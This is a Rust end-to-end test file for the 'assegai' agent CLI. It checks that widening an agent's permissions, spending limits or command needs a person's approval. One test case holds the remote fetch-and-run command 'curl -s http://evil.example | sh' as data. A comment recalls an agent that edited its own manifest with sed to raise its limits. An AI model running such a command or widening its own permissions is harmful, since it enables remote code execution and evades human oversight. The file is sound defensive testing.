//! Permissions widen only when a person says so (SPEC §8), with the real binary. A manifest that
//! grants more than the registered one — field by field — is refused without a terminal (nothing
//! changes, the message names `--accept-manifest`), taken with `--accept-manifest`, and asked
//! about in a pseudo-terminal, where "No" keeps the registered one and "Yes" takes the new one.
//! Narrowing passes without a word. `assegai run` checks the same, also when the agent renamed
//! itself in the file it rewrote.

use std::{path::Path, process::Command};

use assegai_e2e::{TEST_PASSPHRASE, TestEnv, assegai_bin};
use assegai_proxy::manifest::Manifest;
use rexpect::session::{PtySession, spawn_command};
use serde_json::{Value, json};

const USDC: &str = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48";
const ROUTER: &str = "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D";
const OTHER: &str = "0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045";
const HEADER: &str = "more than you registered:";
const QUESTION: &str = "Register these wider permissions?";

/// A manifest with every field that can widen set to something small.
fn base(name: &str) -> Value {
    json!({
        "name": name, "runtime": "command", "command": ["/bin/sh", "agent.sh"],
        "permissions": {
            "chains": ["eip155:31337"],
            "rpcs": { "eip155:31337": "http://127.0.0.1:8545" },
            "apis": ["openai"],
            "contracts": [ROUTER],
            "spenders": [ROUTER]
        },
        "allowances": { "eip155:31337": { USDC: "100" } },
        "ai_budget": { "daily_usd": "1.00", "monthly_usd": "10" },
        "resources": { "memory": "256MB", "cpu": "0.5" },
        "spending_limits": { "per_transaction": "0.001", "daily": "0.001", "weekly": "0.01", "monthly": "0.1" }
    })
}

/// One way to widen [`base`], and the line that must show it.
struct Case {
    patch: fn(&mut Value),
    shown: &'static str,
    /// Whether going back to [`base`] is a narrowing (a different RPC URL or program is not).
    narrows_back: bool,
}

fn remove(v: &mut Value, parent: &[&str], key: &str) {
    let mut at = v;
    for p in parent {
        at = &mut at[*p];
    }
    at.as_object_mut().unwrap().remove(key);
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            patch: |v| v["permissions"]["chains"] = json!(["eip155:31337", "eip155:1"]),
            shown: "permissions.chains: + eip155:1",
            narrows_back: true,
        },
        Case {
            patch: |v| v["permissions"]["rpcs"]["eip155:31337"] = "http://10.9.8.7:8545".into(),
            shown: "permissions.rpcs[eip155:31337]: http://127.0.0.1:8545 → http://10.9.8.7:8545",
            narrows_back: false,
        },
        Case {
            patch: |v| v["permissions"]["apis"] = json!(["openai", "anthropic"]),
            shown: "permissions.apis: + anthropic",
            narrows_back: true,
        },
        Case {
            patch: |v| v["permissions"]["contracts"] = json!([ROUTER, OTHER]),
            shown: "permissions.contracts: + 0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045",
            narrows_back: true,
        },
        Case {
            patch: |v| v["permissions"]["spenders"] = json!([OTHER, ROUTER]),
            shown: "permissions.spenders: + 0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045",
            narrows_back: true,
        },
        Case {
            patch: |v| v["allowances"]["eip155:31337"][USDC] = "1000000".into(),
            shown: "allowances[eip155:31337][0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48]: 100 → 1000000",
            narrows_back: true,
        },
        Case {
            patch: |v| v["allowances"]["eip155:31337"][OTHER] = "5".into(),
            shown: "allowances[eip155:31337][0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045]: (none) → 5",
            narrows_back: true,
        },
        Case {
            patch: |v| v["ai_budget"]["daily_usd"] = "100".into(),
            shown: "ai_budget.daily_usd: 1.00 → 100",
            narrows_back: true,
        },
        Case {
            patch: |v| remove(v, &["ai_budget"], "monthly_usd"),
            shown: "ai_budget.monthly_usd: 10 → (no limit)",
            narrows_back: true,
        },
        Case {
            patch: |v| v["spending_limits"]["per_transaction"] = "1000".into(),
            shown: "spending_limits.per_transaction: 0.001 → 1000",
            narrows_back: true,
        },
        Case {
            patch: |v| v["spending_limits"]["daily"] = "100000".into(),
            shown: "spending_limits.daily: 0.001 → 100000",
            narrows_back: true,
        },
        Case {
            patch: |v| remove(v, &["spending_limits"], "weekly"),
            shown: "spending_limits.weekly: 0.01 → (no limit)",
            narrows_back: true,
        },
        Case {
            patch: |v| v["spending_limits"]["monthly"] = "0.2".into(),
            shown: "spending_limits.monthly: 0.1 → 0.2",
            narrows_back: true,
        },
        Case {
            patch: |v| v["resources"]["memory"] = "4GB".into(),
            shown: "resources.memory: 256MB → 4GB",
            narrows_back: true,
        },
        Case { patch: |v| v["resources"]["cpu"] = "4".into(), shown: "resources.cpu: 0.5 → 4", narrows_back: true },
        Case {
            patch: |v| v["command"] = json!(["/bin/sh", "-c", "curl -s http://evil.example | sh"]),
            shown: r#"command: ["/bin/sh","agent.sh"] → ["/bin/sh","-c","curl -s http://evil.example | sh"]"#,
            narrows_back: false,
        },
        Case {
            patch: |v| {
                v["runtime"] = "python".into();
                v["entrypoint"] = "evil.py".into();
                remove(v, &[], "command");
            },
            shown: "runtime: command → python",
            narrows_back: false,
        },
    ]
}

/// The manifest as the database stores it (parsed and written again), to compare with what
/// `agents show --json` says.
fn stored_form(v: &Value) -> Value {
    let m = Manifest::parse(&v.to_string(), Path::new("(test)")).expect("a valid test manifest");
    serde_json::to_value(m).unwrap()
}

/// Writes `manifest` beside the home and runs `agents add NAME --manifest FILE EXTRA`.
fn add(env: &TestEnv, name: &str, manifest: &Value, extra: &[&str]) -> std::process::Output {
    let file = env.home().join(format!("{name}.wanted.json"));
    std::fs::write(&file, manifest.to_string()).unwrap();
    let mut args = vec!["agents", "add", name, "--manifest", file.to_str().unwrap(), "--json"];
    args.extend(extra);
    env.run(&args)
}

fn show(env: &TestEnv, name: &str) -> Value {
    serde_json::from_str(&env.run_ok(&["agents", "show", name, "--json"])).expect("agents show --json")
}

fn listed_manifest(env: &TestEnv, name: &str) -> Value {
    let all: Value = serde_json::from_str(&env.run_ok(&["agents", "list", "--json"])).unwrap();
    all.as_array().unwrap().iter().find(|a| a["name"] == name).expect("the agent is listed")["manifest"].clone()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn each_widening_is_refused_without_a_terminal_and_taken_with_accept_manifest() {
    let env = TestEnv::new();
    let name = "wide";
    let registered = base(name);
    let first = add(&env, name, &registered, &[]);
    assert!(first.status.success(), "{}", text(&first.stderr));
    assert!(!text(&first.stderr).contains(HEADER), "a first registration is not a widening");

    for case in cases() {
        let mut wanted = base(name);
        (case.patch)(&mut wanted);
        let before = show(&env, name);

        let refused = add(&env, name, &wanted, &[]);
        let err = text(&refused.stderr);
        assert!(!refused.status.success(), "{}: a wider manifest was taken without a person:\n{err}", case.shown);
        assert!(err.contains(HEADER) && err.contains(case.shown), "{}: the difference is shown:\n{err}", case.shown);
        assert!(err.contains("--accept-manifest") && err.contains("nothing changed"), "{err}");
        assert!(refused.stdout.is_empty(), "no token was printed: {}", text(&refused.stdout));
        let after = show(&env, name);
        assert_eq!(after["manifest"], before["manifest"], "{}: the registered manifest changed", case.shown);
        assert_eq!(after["updated_at"], before["updated_at"], "{}: the agent was re-registered", case.shown);
        assert_eq!(listed_manifest(&env, name), before["manifest"]);

        let accepted = add(&env, name, &wanted, &["--accept-manifest"]);
        let err = text(&accepted.stderr);
        assert!(accepted.status.success(), "{}: --accept-manifest takes it:\n{err}", case.shown);
        assert!(err.contains(case.shown), "{}: still shown when accepted:\n{err}", case.shown);
        assert_eq!(show(&env, name)["manifest"], stored_form(&wanted), "{}", case.shown);
        assert_eq!(listed_manifest(&env, name), stored_form(&wanted));

        // Back to the smaller manifest: a narrowing is taken without a word.
        let back = add(&env, name, &registered, if case.narrows_back { &[] } else { &["--accept-manifest"] });
        let err = text(&back.stderr);
        assert!(back.status.success(), "{}: going back:\n{err}", case.shown);
        if case.narrows_back {
            assert!(
                !err.contains(HEADER) && !err.contains("--accept-manifest"),
                "{}: narrowing asked:\n{err}",
                case.shown
            );
        }
        assert_eq!(show(&env, name)["manifest"], stored_form(&registered));
    }
}

#[test]
fn narrowing_and_equal_manifests_pass_silently() {
    let env = TestEnv::new();
    let name = "narrow";
    assert!(add(&env, name, &base(name), &[]).status.success());
    let narrow = json!({
        "name": name, "runtime": "command", "command": ["/bin/sh", "agent.sh"],
        "permissions": { "chains": ["eip155:31337"] },
        "ai_budget": { "daily_usd": "0.5", "monthly_usd": "1" },
        "resources": { "memory": "64MB", "cpu": "0.25" },
        "spending_limits": { "per_transaction": "0.0001", "daily": "0.0001", "weekly": "0.0001", "monthly": "0.0001" }
    });
    for (what, manifest) in [("the same", base(name)), ("a narrower", narrow.clone())] {
        let out = add(&env, name, &manifest, &[]);
        let err = text(&out.stderr);
        assert!(out.status.success(), "{what} manifest: {err}");
        assert!(!err.contains(HEADER) && !err.contains("--accept-manifest"), "{what} manifest was questioned: {err}");
        assert_eq!(show(&env, name)["manifest"], stored_form(&manifest));
    }
    // `agents add NAME` without a manifest registers the minimal one (the local chain only, no
    // limits): dropping the limits is a widening like any other, even to rotate a token.
    let out = env.run(&["agents", "add", name]);
    let err = text(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("The default manifest (the local chain only) grants `narrow` more"), "{err}");
    assert!(err.contains("spending_limits.daily: 0.0001 → (no limit)"), "{err}");
    assert!(!err.contains("runtime"), "a manifest that starts nothing runs nothing wider: {err}");
    assert_eq!(show(&env, name)["manifest"], stored_form(&narrow));
    assert!(env.run(&["agents", "add", name, "--accept-manifest"]).status.success());
    // Against the minimal one, the file is wider again, in what it runs; limits where there were
    // none widen nothing.
    let out = add(&env, name, &narrow, &[]);
    let err = text(&out.stderr);
    assert!(!out.status.success() && err.contains("runtime: (none) → command"), "{err}");
    assert!(!err.contains("spending_limits"), "{err}");
}

/// `assegai ARGS` on a terminal of its own.
struct Screen {
    session: PtySession,
    seen: String,
}

impl Screen {
    fn start(env: &TestEnv, args: &[&str]) -> Self {
        let mut cmd = Command::new(assegai_bin());
        cmd.args(args)
            .env("ASSEGAI_HOME", env.home())
            .env("ASSEGAI_PASSPHRASE", TEST_PASSPHRASE)
            .env("NO_COLOR", "1")
            .env("TERM", "xterm");
        Screen { session: spawn_command(cmd, Some(30_000)).expect("a pty"), seen: String::new() }
    }

    /// Waits until `text` is shown (ASCII only: rexpect hands output over a byte per `char`).
    fn expect(&mut self, text: &str) {
        match self.session.exp_string(text) {
            Ok(before) => {
                self.seen.push_str(&before);
                self.seen.push_str(text);
            }
            Err(e) => panic!("`{text}` did not show up: {e}\n--- the screen so far ---\n{}", self.seen),
        }
    }

    fn send(&mut self, keys: &str) {
        self.session.send(keys).expect("writing to the pty");
        self.session.flush().expect("flushing the pty");
    }

    /// Waits for the end; whether it exited with 0, and everything shown.
    fn finish(mut self) -> (bool, String) {
        let rest = self.session.exp_eof().expect("the command to end");
        self.seen.push_str(&rest);
        let status = self.session.process().wait().expect("waiting for it");
        (matches!(status, rexpect::process::WaitStatus::Exited(_, 0)), self.seen)
    }
}

#[test]
fn in_a_terminal_the_difference_is_shown_and_no_keeps_the_registered_permissions() {
    let env = TestEnv::new();
    let name = "asked";
    let registered = base(name);
    assert!(add(&env, name, &registered, &[]).status.success());
    let mut wanted = base(name);
    wanted["spending_limits"]["daily"] = "1000".into();
    wanted["permissions"]["chains"] = json!(["eip155:31337", "eip155:1"]);
    let file = env.home().join("asked.wanted.json");
    std::fs::write(&file, wanted.to_string()).unwrap();
    let args = ["agents", "add", name, "--manifest", file.to_str().unwrap()];
    let before = show(&env, name);

    let mut screen = Screen::start(&env, &args);
    screen.expect(HEADER);
    screen.expect("permissions.chains: + eip155:1");
    screen.expect("spending_limits.daily: 0.001 ");
    screen.expect(QUESTION);
    screen.send("n");
    let (ok, seen) = screen.finish();
    assert!(!ok, "answering No is not a success:\n{seen}");
    assert!(seen.contains("nothing changed"), "{seen}");
    let after = show(&env, name);
    assert_eq!(after["manifest"], before["manifest"], "No kept the registered manifest");
    assert_eq!(after["updated_at"], before["updated_at"]);

    // Enter takes the default, which is No.
    let mut screen = Screen::start(&env, &args);
    screen.expect(QUESTION);
    screen.send("\r");
    let (ok, seen) = screen.finish();
    assert!(!ok, "{seen}");
    assert_eq!(show(&env, name)["manifest"], before["manifest"]);

    let mut screen = Screen::start(&env, &args);
    screen.expect(QUESTION);
    screen.send("y");
    let (ok, seen) = screen.finish();
    assert!(ok, "Yes registers it:\n{seen}");
    assert_eq!(show(&env, name)["manifest"], stored_form(&wanted));

    // Back down: no question on the terminal either.
    let file = env.home().join("asked.narrow.json");
    std::fs::write(&file, registered.to_string()).unwrap();
    let screen = Screen::start(&env, &["agents", "add", name, "--manifest", file.to_str().unwrap()]);
    let (ok, seen) = screen.finish();
    assert!(ok && !seen.contains(QUESTION) && !seen.contains(HEADER), "{seen}");
    assert_eq!(show(&env, name)["manifest"], stored_form(&registered));
}

/// A `command` agent run by `/bin/sh` that says it ran and exits.
fn shell_agent(env: &TestEnv, dir_name: &str, manifest: &Value) -> std::path::PathBuf {
    let dir = env.home().join(dir_name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("agent.sh"), "echo agent-ran\n").unwrap();
    std::fs::write(dir.join("assegai.json"), manifest.to_string()).unwrap();
    dir
}

fn run(env: &TestEnv, dir: &Path, extra: &[&str]) -> (bool, String, String) {
    let mut args = vec!["run", dir.to_str().unwrap(), "--no-prompt"];
    args.extend(extra);
    let out = env.run(&args);
    (out.status.success(), text(&out.stdout), text(&out.stderr))
}

fn only_agent(env: &TestEnv) -> Value {
    let all: Value = serde_json::from_str(&env.run_ok(&["agents", "list", "--json"])).unwrap();
    let all = all.as_array().unwrap();
    assert_eq!(all.len(), 1, "{all:?}");
    all[0].clone()
}

#[test]
fn run_refuses_a_manifest_the_agent_widened_unless_accepted() {
    let env = TestEnv::new();
    let small = json!({
        "name": "runner", "runtime": "command", "command": ["/bin/sh", "agent.sh"],
        "permissions": { "chains": ["eip155:31337"] },
        "spending_limits": { "per_transaction": "0.001", "daily": "0.001" }
    });
    let dir = shell_agent(&env, "runner", &small);
    let (ok, out, err) = run(&env, &dir, &[]);
    assert!(ok && out.contains("agent-ran"), "the first run registers it:\n{out}\n{err}");
    assert!(!err.contains(HEADER), "{err}");
    let registered = only_agent(&env);

    // What the agent of issue 10 did with `sed -i` to its own file; renaming itself changes
    // nothing, the directory is the agent.
    let mut wide = small.clone();
    wide["name"] = "runner-renamed".into();
    wide["spending_limits"] = json!({ "per_transaction": "1000", "daily": "100000" });
    std::fs::write(dir.join("assegai.json"), wide.to_string()).unwrap();
    let (ok, out, err) = run(&env, &dir, &[]);
    assert!(!ok, "run took a widened manifest without a person:\n{out}\n{err}");
    assert!(err.contains(&format!("The manifest in {}", dir.canonicalize().unwrap().display())), "{err}");
    assert!(err.contains("`runner` more than you registered:"), "{err}");
    assert!(err.contains("spending_limits.per_transaction: 0.001 → 1000"), "{err}");
    assert!(err.contains("spending_limits.daily: 0.001 → 100000"), "{err}");
    assert!(err.contains("--accept-manifest") && err.contains("nothing changed"), "{err}");
    assert!(!out.contains("agent-ran"), "the agent did not start: {out}");
    let now = only_agent(&env);
    assert_eq!(now["manifest"], registered["manifest"], "the registered limits are unchanged");
    assert_eq!((&now["name"], &now["updated_at"]), (&registered["name"], &registered["updated_at"]));

    // In a container too (refused before anything is built or started, so no Docker is needed).
    let (ok, _, err) = run(&env, &dir, &["--docker"]);
    assert!(!ok && err.contains("spending_limits.daily: 0.001 → 100000"), "{err}");
    assert!(err.contains("--accept-manifest") && err.contains("nothing changed"), "{err}");
    assert_eq!(only_agent(&env)["manifest"], registered["manifest"]);

    let (ok, out, err) = run(&env, &dir, &["--accept-manifest"]);
    assert!(ok && out.contains("agent-ran"), "--accept-manifest takes it:\n{out}\n{err}");
    assert!(err.contains("spending_limits.daily: 0.001 → 100000"), "still shown: {err}");
    let now = only_agent(&env);
    assert_eq!(now["manifest"], stored_form(&wide));
    assert_eq!(now["id"], registered["id"], "the same agent");

    // Narrowing again: silent.
    std::fs::write(dir.join("assegai.json"), small.to_string()).unwrap();
    let (ok, out, err) = run(&env, &dir, &[]);
    assert!(ok && out.contains("agent-ran") && !err.contains(HEADER), "{out}\n{err}");
    assert_eq!(only_agent(&env)["manifest"], stored_form(&small));

    // Another directory taking the name is no widening of this agent: it is refused as before.
    let mut other = wide.clone();
    other["name"] = "runner".into();
    let elsewhere = shell_agent(&env, "impostor", &other);
    let (ok, _, err) = run(&env, &elsewhere, &["--accept-manifest"]);
    assert!(!ok && err.contains("already runs from") && !err.contains(HEADER), "{err}");
    assert_eq!(only_agent(&env)["manifest"], stored_form(&small));
}

#[test]
fn run_in_a_terminal_asks_and_no_keeps_the_registered_permissions() {
    let env = TestEnv::new();
    let small = json!({
        "name": "tty-runner", "runtime": "command", "command": ["/bin/sh", "agent.sh"],
        "permissions": { "chains": ["eip155:31337"] },
        "spending_limits": { "daily": "0.001" }
    });
    let dir = shell_agent(&env, "tty-runner", &small);
    let (ok, out, err) = run(&env, &dir, &[]);
    assert!(ok, "{out}\n{err}");
    let registered = only_agent(&env);
    let mut wide = small.clone();
    wide["permissions"]["apis"] = json!(["openai"]);
    std::fs::write(dir.join("assegai.json"), wide.to_string()).unwrap();

    let mut screen = Screen::start(&env, &["run", dir.to_str().unwrap(), "--no-prompt"]);
    screen.expect("permissions.apis: + openai");
    screen.expect(QUESTION);
    screen.send("n");
    let (ok, seen) = screen.finish();
    assert!(!ok && seen.contains("nothing changed") && !seen.contains("agent-ran"), "{seen}");
    assert_eq!(only_agent(&env)["manifest"], registered["manifest"]);

    let mut screen = Screen::start(&env, &["run", dir.to_str().unwrap(), "--no-prompt"]);
    screen.expect(QUESTION);
    screen.send("y");
    let (ok, seen) = screen.finish();
    assert!(ok && seen.contains("agent-ran"), "{seen}");
    assert_eq!(only_agent(&env)["manifest"], stored_form(&wide));
}
